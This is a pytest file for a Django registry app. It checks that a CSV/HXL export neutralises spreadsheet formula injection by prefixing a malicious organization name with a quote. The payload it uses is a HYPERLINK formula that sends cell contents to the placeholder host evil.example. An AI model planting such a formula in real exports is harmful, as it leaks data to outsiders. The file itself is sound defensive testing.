"""Text typed into the registry cannot become a formula in an export a coordinator opens."""

import csv
import io

import pytest

from turvaverkko.registry.models import Organization

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_hxl_export_writes_a_formula_name_as_text(world, client_as):
    Organization.objects.filter(pk=world.martat.pk).update(name_fi=PAYLOAD, name=PAYLOAD)
    response = client_as("kaisa").get("/en/insights/export/3w-hxl.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row[0] for row in rows[2:]}
    assert "'" + PAYLOAD in names
    assert PAYLOAD not in names
    # Numbers stay numbers: the phone number and the coordinates are not touched.
    assert any(row[rows[1].index("#contact +phone")] == "+35825550002" for row in rows[2:])
